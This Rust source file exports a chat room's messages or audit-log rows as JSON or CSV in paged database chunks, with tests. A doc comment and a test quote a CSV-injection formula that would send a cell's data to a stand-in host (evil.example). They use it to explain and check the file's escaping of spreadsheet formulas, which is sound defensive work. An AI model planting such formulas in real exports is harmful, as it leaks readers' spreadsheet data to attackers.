//! Exports: `export_room` (a room's whole history) and `export_audit` (the audit rows
//! matching a filter), streamed into the database in keyset pages.
//!
//! The extent (row count and newest id) is fixed when the export starts, so rows written
//! meanwhile neither appear nor move the percentage. Pages of [`PAGE`] rows are read
//! by id (`id > last AND id <= newest`), so no row is read twice or skipped, memory holds
//! one page, and the database sees short independent reads: WAL readers never block the
//! chat writer. Each page is encoded into one buffer; full [`exports::CHUNK`]s are stored
//! as they fill ([`crate::storage::exports`]), so any instance can serve the download. The
//! job is marked done only after the last chunk is stored; an export that fails has its
//! chunks deleted.

use confab_shared::moderation::AuditEntry;
use confab_shared::{ExportFormat, Message};
use serde::Serialize;
use tokio_util::sync::CancellationToken;

use super::runner::Progress;
use crate::layer::ChannelLayer;
use crate::storage::entity::jobs as job_entity;
use crate::storage::moderation::{self as audit_log, AuditFilter};
use crate::storage::{Db, exports, jobs, messages, rooms};

/// Rows per page.
const PAGE: u64 = 1000;

/// A row of an export file: one element of the JSON array, one CSV record.
trait Record: Serialize {
    /// The CSV columns, in order.
    const CSV_HEADER: &'static [&'static str];
    /// The row's CSV cells, in the header's order.
    fn cells(&self) -> Vec<String>;
}

impl Record for Message {
    const CSV_HEADER: &'static [&'static str] = &["id", "room", "author", "text", "sent_at", "edited_at", "deleted"];

    fn cells(&self) -> Vec<String> {
        let edited = self.edited_at.map(|t| t.to_string()).unwrap_or_default();
        vec![self.id.to_string(), self.room.clone(), self.author.clone(), self.text.clone(), self.sent_at.to_string(), edited, self.deleted.to_string()]
    }
}

impl Record for AuditEntry {
    const CSV_HEADER: &'static [&'static str] = &["id", "at", "actor", "action", "target", "room", "reason", "detail", "instance"];

    fn cells(&self) -> Vec<String> {
        let text = |v: &Option<String>| v.clone().unwrap_or_default();
        vec![
            self.id.to_string(),
            self.at.to_string(),
            self.actor.clone(),
            self.action.as_str().to_owned(),
            text(&self.target),
            text(&self.room),
            text(&self.reason),
            text(&self.detail),
            self.instance.clone(),
        ]
    }
}

/// What an export reads: pages in id order up to the newest row when it started.
enum Source {
    Room(i64),
    Audit(AuditFilter),
}

impl Source {
    /// What `job` exports, looked up once (a room export of a room since deleted fails here).
    async fn of(db: &Db, job: &job_entity::Model) -> Result<Self, ExportError> {
        if job.kind == jobs::EXPORT_AUDIT {
            return Ok(Self::Audit(jobs::audit_filter_of(job)?));
        }
        let room = rooms::by_name(db, &job.room).await?.ok_or_else(|| ExportError::Failed(anyhow::anyhow!("room {} is gone", job.room)))?;
        Ok(Self::Room(room.id))
    }

    /// How many rows there are to export and the newest one's id.
    async fn extent(&self, db: &Db) -> Result<(u64, i64), ExportError> {
        Ok(match self {
            Self::Room(room_id) => messages::extent(db, *room_id).await?,
            Self::Audit(filter) => audit_log::audit_extent(db, filter).await?,
        })
    }

    fn header(&self, encoder: &Encoder) -> Result<Vec<u8>, ExportError> {
        match self {
            Self::Room(_) => encoder.start::<Message>(),
            Self::Audit(_) => encoder.start::<AuditEntry>(),
        }
    }

    /// The page after `after`, encoded: its last id, its row count and its bytes (`None` past the end).
    async fn page(&self, db: &Db, after: i64, newest: i64, encoder: &mut Encoder) -> Result<Option<(i64, u64, Vec<u8>)>, ExportError> {
        match self {
            Self::Room(room_id) => {
                let page = messages::page_through(db, *room_id, after, newest, PAGE).await?;
                let Some(last) = page.last().map(|m| m.id) else { return Ok(None) };
                let rows = page.len() as u64;
                let wire = messages::to_wire(db, page).await?;
                Ok(Some((last, rows, encoder.page(&wire)?)))
            }
            Self::Audit(filter) => {
                let page = audit_log::audit_through(db, filter, after, newest, PAGE).await?;
                let Some(last) = page.last().map(|r| r.id) else { return Ok(None) };
                let rows = page.len() as u64;
                let wire: Vec<AuditEntry> = page.into_iter().map(AuditEntry::from).collect();
                Ok(Some((last, rows, encoder.page(&wire)?)))
            }
        }
    }
}

/// How an export ended without a file.
#[derive(Debug)]
pub enum ExportError {
    /// The server is stopping.
    Interrupted,
    /// The job is no longer running in the database (already failed elsewhere).
    Gone,
    /// Anything else; logged, and the owner reads a generic reason.
    Failed(anyhow::Error),
}

impl From<crate::storage::StorageError> for ExportError {
    fn from(err: crate::storage::StorageError) -> Self {
        Self::Failed(err.into())
    }
}

impl From<std::io::Error> for ExportError {
    fn from(err: std::io::Error) -> Self {
        Self::Failed(err.into())
    }
}

pub fn extension(format: &ExportFormat) -> &'static str {
    match format {
        ExportFormat::Json => "json",
        ExportFormat::Csv => "csv",
    }
}

/// Runs the export; returns what the job row's `file` records ([`exports::IN_DATABASE`]).
pub async fn run(db: &Db, layer: &dyn ChannelLayer, job: &job_entity::Model, stop: &CancellationToken) -> Result<String, ExportError> {
    if !jobs::start(db, job.id).await? {
        return Err(ExportError::Gone);
    }
    match write(db, layer, job, stop).await {
        Ok(()) => Ok(exports::IN_DATABASE.to_owned()),
        Err(err) => {
            discard(db, job.id).await;
            Err(err)
        }
    }
}

/// Removes a file that will never be downloaded (best effort).
pub async fn discard(db: &Db, job_id: i64) {
    if let Err(err) = exports::discard(db, job_id).await {
        tracing::warn!(job = job_id, %err, "could not remove an unfinished export");
    }
}

/// Collects encoded bytes and stores them a full chunk at a time.
struct ChunkWriter<'a> {
    db: &'a Db,
    job_id: i64,
    seq: i32,
    buf: Vec<u8>,
}

impl<'a> ChunkWriter<'a> {
    fn new(db: &'a Db, job_id: i64) -> Self {
        Self { db, job_id, seq: 0, buf: Vec::with_capacity(exports::CHUNK * 2) }
    }

    async fn write(&mut self, bytes: &[u8]) -> Result<(), ExportError> {
        self.buf.extend_from_slice(bytes);
        while self.buf.len() >= exports::CHUNK {
            let rest = self.buf.split_off(exports::CHUNK);
            let full = std::mem::replace(&mut self.buf, rest);
            self.store(full).await?;
        }
        Ok(())
    }

    async fn store(&mut self, data: Vec<u8>) -> Result<(), ExportError> {
        exports::append(self.db, self.job_id, self.seq, data).await?;
        self.seq += 1;
        Ok(())
    }

    /// Stores the last, partial chunk (every file has at least one: an empty JSON export is `[]`).
    async fn finish(mut self) -> Result<(), ExportError> {
        let last = std::mem::take(&mut self.buf);
        if !last.is_empty() || self.seq == 0 {
            self.store(last).await?;
        }
        Ok(())
    }
}

async fn write(db: &Db, layer: &dyn ChannelLayer, job: &job_entity::Model, stop: &CancellationToken) -> Result<(), ExportError> {
    let format = jobs::format_of(job);
    let source = Source::of(db, job).await?;
    let (total, newest) = source.extent(db).await?;
    let mut out = ChunkWriter::new(db, job.id);
    let mut progress = Progress::new(job.id, job.owner_id, total);
    let mut encoder = Encoder::new(&format);
    out.write(&source.header(&encoder)?).await?;
    let mut after = 0;
    loop {
        // Stop between pages, or during a slow read, but never mid-page: the chunks are discarded anyway.
        let page = tokio::select! {
            biased;
            () = stop.cancelled() => return Err(ExportError::Interrupted),
            page = source.page(db, after, newest, &mut encoder) => page?,
        };
        let Some((last, rows, bytes)) = page else { break };
        after = last;
        out.write(&bytes).await?;
        progress.advance(db, layer, rows).await?;
    }
    out.write(encoder.end()).await?;
    // Every chunk is committed before the row says "done".
    out.finish().await
}

/// Encodes pages of rows as a JSON array or as CSV with a header.
struct Encoder {
    csv: bool,
    first: bool,
}

impl Encoder {
    fn new(format: &ExportFormat) -> Self {
        Self { csv: matches!(format, ExportFormat::Csv), first: true }
    }

    fn start<R: Record>(&self) -> Result<Vec<u8>, ExportError> {
        if !self.csv {
            return Ok(b"[".to_vec());
        }
        let mut csv = csv::Writer::from_writer(Vec::new());
        csv.write_record(R::CSV_HEADER).map_err(|e| ExportError::Failed(e.into()))?;
        csv.into_inner().map_err(|e| ExportError::Failed(anyhow::anyhow!("{e}")))
    }

    fn page<R: Record>(&mut self, page: &[R]) -> Result<Vec<u8>, ExportError> {
        if self.csv {
            let mut csv = csv::Writer::from_writer(Vec::with_capacity(page.len() * 128));
            for row in page {
                let cells = row.cells();
                csv.write_record(cells.iter().map(|cell| inert_cell(cell).into_owned())).map_err(|e| ExportError::Failed(e.into()))?;
            }
            return csv.into_inner().map_err(|e| ExportError::Failed(anyhow::anyhow!("{e}")));
        }
        let mut buf = Vec::with_capacity(page.len() * 160);
        for row in page {
            buf.extend_from_slice(if self.first { b"\n" } else { b",\n" });
            self.first = false;
            serde_json::to_writer(&mut buf, row).map_err(|e| ExportError::Failed(e.into()))?;
        }
        Ok(buf)
    }

    fn end(&self) -> &'static [u8] {
        match (self.csv, self.first) {
            (true, _) => b"",
            (false, true) => b"]\n",
            (false, false) => b"\n]\n",
        }
    }
}

/// A CSV cell a spreadsheet will show as text, never evaluate (OWASP's "CSV injection"
/// rule): one starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
/// `'`, which spreadsheets hide and which stops them reading a formula. A message text of
/// `=HYPERLINK("https://evil.example?"&A1, "click")` would otherwise become a live formula
/// in the reader's spreadsheet. Ids and times never start so; every cell goes through it.
fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use confab_shared::Timestamp;

    use super::*;

    fn message(id: i64, text: &str) -> Message {
        Message {
            id,
            room: "r".into(),
            author: "ann".into(),
            text: text.into(),
            sent_at: Timestamp::from_millis(1_700_000_000_000),
            edited_at: None,
            deleted: false,
            reactions: BTreeMap::new(),
            mentions: Vec::new(),
            mention_all: None,
        }
    }

    fn encode(format: ExportFormat, pages: &[&[Message]]) -> String {
        let mut encoder = Encoder::new(&format);
        let mut out = encoder.start::<Message>().unwrap();
        for page in pages {
            out.extend(encoder.page(page).unwrap());
        }
        out.extend_from_slice(encoder.end());
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn json_pages_join_into_one_array() {
        let text = encode(ExportFormat::Json, &[&[message(1, "a")], &[message(2, "b"), message(3, "c")]]);
        let back: Vec<Message> = serde_json::from_str(&text).unwrap();
        assert_eq!(back.iter().map(|m| m.id).collect::<Vec<_>>(), vec![1, 2, 3]);
        let empty: Vec<Message> = serde_json::from_str(&encode(ExportFormat::Json, &[])).unwrap();
        assert!(empty.is_empty());
    }

    #[test]
    fn csv_quotes_commas_quotes_and_newlines() {
        let text = encode(ExportFormat::Csv, &[&[message(1, "plain"), message(2, "a, \"b\"\nc")]]);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), Message::CSV_HEADER);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[1][3], "a, \"b\"\nc");
        assert_eq!(&rows[1][4], "2023-11-14T22:13:20.000Z");
        assert_eq!(&rows[1][5], "");
        assert_eq!(&rows[1][6], "false");
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote() {
        let texts = ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"https://evil.example\")"];
        let page: Vec<Message> = texts.iter().enumerate().map(|(i, t)| message(i as i64 + 1, t)).collect();
        let mut author = message(99, "a - b = c, plain");
        author.author = "-ann".into();
        let text = encode(ExportFormat::Csv, &[&page, &[author]]);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        for (row, original) in rows.iter().zip(texts) {
            assert_eq!(&row[3], format!("'{original}"), "{original:?}");
        }
        let last = rows.last().unwrap();
        assert_eq!((&last[2], &last[3]), ("'-ann", "a - b = c, plain"), "only the start of a cell counts");
        assert_eq!(&last[0], "99");
    }
}
